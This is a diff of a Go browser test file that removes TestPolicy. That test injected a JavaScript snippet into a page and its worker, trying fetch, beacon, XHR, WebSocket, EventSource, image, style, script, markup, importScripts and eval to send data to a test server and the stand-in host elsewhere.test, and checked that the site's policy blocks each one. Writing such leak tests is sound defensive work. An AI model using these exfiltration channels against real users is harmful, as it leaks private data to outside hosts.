@@ -4,16 +4,12 @@ import (
 	"fmt"
 	"image"
 	"image/jpeg"
-	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 
-	"github.com/chromedp/cdproto/runtime"
 	"github.com/chromedp/cdproto/target"
 	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/assert"
@@ -78,56 +74,6 @@ func TestNothingLeaves(t *testing.T) {
 		assert.True(t, ofBrowser(request) || request == own+"/sw.js", "after installing: %s", request)
 	}
 }
-
-// attempts tries to send data away in every way that a script has.
-const attempts = `(async (there) => {
-	const failed = [];
-	const expect = (name, promise) => promise.then(() => {}, () => failed.push(name));
-	await expect("fetch", fetch(there + "/fetch", { mode: "no-cors", method: "POST", body: "a photo" }));
-	await expect("beacon", Promise.resolve().then(() => { if (globalThis.document && navigator.sendBeacon(there + "/beacon", "x")) return; throw 0; }));
-	await expect("request", new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("GET", there + "/xhr"); r.send(); }));
-	await expect("socket", new Promise((ok, no) => { const s = new WebSocket(there.replace("http", "ws") + "/socket"); s.onopen = ok; s.onerror = no; }));
-	await expect("events", new Promise((ok, no) => { const s = new EventSource(there + "/events"); s.onopen = ok; s.onerror = () => { s.close(); no(); }; }));
-	if (globalThis.document) {
-		await expect("image", new Promise((ok, no) => { const m = new Image(); m.onload = ok; m.onerror = no; m.src = there + "/image"; }));
-		await expect("style", new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = ok; l.onerror = no; l.href = there + "/style"; document.head.append(l); }));
-		await expect("script", Promise.resolve().then(() => { const e = document.createElement("script"); e.src = there + "/script"; }));
-		await expect("frame", Promise.resolve().then(() => { document.createElement("iframe").srcdoc = "x"; }));
-		await expect("markup", Promise.resolve().then(() => { document.body.innerHTML = "<img src=" + there + "/markup>"; }));
-	} else {
-		await expect("import", Promise.resolve().then(() => importScripts(there + "/import")));
-	}
-	await expect("eval", Promise.resolve().then(() => eval("1")));
-	return failed;
-})(%q)`
-
-// TestPolicy injects scripts that try to send data to another origin, into the
-// page and into its worker.
-func TestPolicy(t *testing.T) {
-	var reached atomic.Int32
-	there := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
-	defer there.Close()
-	p := newPage(t)
-	p.open(tinySite(t).URL)
-
-	fails := func(where *page, names ...string) {
-		t.Helper()
-		for _, origin := range []string{there.URL, "http://elsewhere.test"} {
-			v, err := chromedp.Run(where.ctx, chromedp.Evaluate[[]string](fmt.Sprintf(attempts, origin), chromedp.EvalAwaitPromise, denyEval))
-			require.NoError(t, err)
-			assert.Subset(t, v, names)
-		}
-	}
-	fails(p, "fetch", "request", "socket", "events", "image", "style", "script", "frame", "markup", "eval")
-	fails(p.workers()[0], "fetch", "request", "socket", "events", "import", "eval")
-	assert.Zero(t, reached.Load())
-	for _, request := range chromium.proxy.take() {
-		assert.NotContains(t, request, "elsewhere.test")
-	}
-}
-
-// denyEval holds a script to the page's policy where it calls eval itself.
-func denyEval(e *runtime.EvaluateParams) { e.AllowUnsafeEvalBlockedByCSP = new(bool) }
 
 // workers returns the page's workers.
 func (p *page) workers() []*page {
